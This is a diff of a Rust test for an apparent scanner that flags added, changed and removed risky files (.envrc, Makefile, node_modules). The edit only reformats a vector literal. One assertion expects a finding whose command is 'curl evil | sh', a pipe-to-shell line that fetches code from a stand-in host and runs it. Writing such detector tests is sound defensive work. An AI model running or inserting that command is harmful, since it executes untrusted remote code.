@@ -25,7 +25,11 @@ fn added_changed_removed_and_other_files() {
     let got: Vec<(Change, Kind, &str)> = r.findings.iter().map(|f| (f.change, f.kind, f.path.as_str())).collect();
     assert_eq!(
         got,
-        vec![(Change::Removed, Kind::EnvLoader, ".envrc"), (Change::Changed, Kind::BuildFile, "Makefile"), (Change::Added, Kind::DependencyTree, "node_modules/x/index.js")]
+        vec![
+            (Change::Removed, Kind::EnvLoader, ".envrc"),
+            (Change::Changed, Kind::BuildFile, "Makefile"),
+            (Change::Added, Kind::DependencyTree, "node_modules/x/index.js")
+        ]
     );
     assert_eq!(r.findings[1].runs, "curl evil | sh");
     assert_eq!(r.other_changes.len(), 1);
